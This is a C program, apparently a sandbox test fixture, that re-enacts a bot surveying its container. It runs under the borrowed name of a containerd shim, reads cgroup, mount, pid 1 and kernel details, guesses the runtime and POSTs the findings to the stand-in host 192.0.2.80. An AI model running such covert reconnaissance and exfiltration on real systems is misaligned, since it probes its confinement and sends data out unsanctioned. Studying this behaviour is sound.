/* containerd-shim-runc-v3 (not really): harmless re-enactment of a bot's "where am I" survey.
 * It reads the cgroup of its own thread, its mount table, pid 1's scheduler line and the kernel
 * version itself (no uname, no cat), guesses the container runtime and POSTs the facts to
 * 192.0.2.80 (a documentation address the sandbox answers). Bounded: one pass, one request. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <unistd.h>

static char facts[8192];
static size_t used;

static void add(const char *key, const char *value) {
    if (used < sizeof facts - 1)
        used += snprintf(facts + used, sizeof facts - used, "%s=%s\n", key, value);
}

/* First line of `path`, newline cut, into `out`; empty when unreadable. */
static void first_line(const char *path, char *out, size_t size) {
    out[0] = 0;
    FILE *f = fopen(path, "r");
    if (!f) return;
    if (fgets(out, size, f)) out[strcspn(out, "\n")] = 0;
    fclose(f);
}

int main(void) {
    char path[128], line[1024];
    const char *runtime = "none";

    /* "0::/system.slice/docker-3f2a….scope" on a host, "0::/" inside a cgroup namespace */
    snprintf(path, sizeof path, "/proc/self/task/%ld/cgroup", (long)syscall(SYS_gettid));
    FILE *f = fopen(path, "r");
    while (f && fgets(line, sizeof line, f)) {
        line[strcspn(line, "\n")] = 0;
        add("cgroup", line);
        if (strstr(line, "docker")) runtime = "docker";
        else if (strstr(line, "kubepods")) runtime = "kubernetes";
        else if (strstr(line, "libpod")) runtime = "podman";
    }
    if (f) fclose(f);

    /* "1234 1 0:52 / / rw,relatime - overlay overlay rw,lowerdir=…,upperdir=/var/lib/docker/…" */
    f = fopen("/proc/self/mountinfo", "r");
    while (f && fgets(line, sizeof line, f)) {
        line[strcspn(line, "\n")] = 0;
        char *sep = strstr(line, " - ");
        char mountpoint[256] = "";
        sscanf(line, "%*s %*s %*s %*s %255s", mountpoint);
        if (sep && strcmp(mountpoint, "/") == 0) add("rootfs", sep + 3);
        if (strcmp(mountpoint, "/etc/hostname") == 0 || strcmp(mountpoint, "/etc/resolv.conf") == 0)
            add("bind", line);
        if (strstr(line, "kubernetes.io/serviceaccount")) runtime = "kubernetes";
        if (strstr(line, "/var/lib/docker/")) runtime = "docker";
    }
    if (f) fclose(f);

    /* "systemd (1, #threads: 1)" on a host; the entrypoint's name in a container */
    first_line("/proc/1/sched", line, sizeof line);
    add("pid1", line);
    int pid1_is_init = strncmp(line, "systemd ", 8) == 0 || strncmp(line, "init ", 5) == 0;
    first_line("/proc/version", line, sizeof line);
    add("kernel", line);
    add("dockerenv", access("/.dockerenv", F_OK) == 0 ? "yes" : "no");
    if (!strcmp(runtime, "none") && !pid1_is_init) runtime = "container";
    add("runtime", runtime);

    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct timeval tv = {5, 0};
    setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    setsockopt(s, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(80)};
    inet_pton(AF_INET, "192.0.2.80", &sa.sin_addr);
    if (connect(s, (struct sockaddr *)&sa, sizeof sa) != 0) {
        printf("shim: %s, no controller\n", runtime);
        return 0;
    }
    char head[256];
    int hl = snprintf(head, sizeof head,
                      "POST /env HTTP/1.1\r\nHost: 192.0.2.80\r\nContent-Type: text/plain\r\n"
                      "Content-Length: %zu\r\nConnection: close\r\n\r\n",
                      used);
    write(s, head, hl);
    write(s, facts, used);
    char reply[256];
    ssize_t r = read(s, reply, sizeof reply - 1);
    if (r > 0) {
        reply[r] = 0;
        printf("shim: runtime %s sent: %.*s\n", runtime, (int)strcspn(reply, "\r\n"), reply);
    }
    close(s);
    return 0;
}
